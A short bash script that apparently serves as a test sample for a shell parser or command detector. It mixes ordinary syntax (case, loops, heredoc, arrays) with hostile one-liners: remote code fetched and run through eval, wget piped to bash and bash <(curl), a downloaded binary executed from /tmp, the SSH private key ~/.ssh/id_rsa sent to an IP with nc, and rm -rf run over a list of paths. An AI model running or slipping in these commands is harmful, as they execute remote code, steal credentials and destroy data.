#!/bin/bash
# comment
X=$(curl -fsSL http://a.example/x | base64 -d) && eval "$X"
curl -o /tmp/x "http://b.example/$USER" ; chmod +x /tmp/x; /tmp/x &
f() { local a=$1; wget -qO- "$a" | bash; }
f http://c.example
if [ -f ~/.ssh/id_rsa ]; then cat ~/.ssh/id_rsa | nc 1.2.3.4 99; elif [[ $a == b && -n $c ]]; then echo 1; else echo 2; fi
for i in 1 2 3; do echo $i >> ${OUT:-/tmp/o}; done
case "$1" in a|b) echo x;; (c) echo y ;; *) exit 1; esac
python3 - <<PY
import os
os.system("$X")
PY
bash <(curl -s http://d.example) 2>&1 > /dev/null
arr=(a "b c" $d); while read l; do rm -rf "$l"; done < list
sudo -E env A=b nohup sh -c 'id; whoami' &>/dev/null &
echo `uname -a` $((1+2)) $'\x41\n'
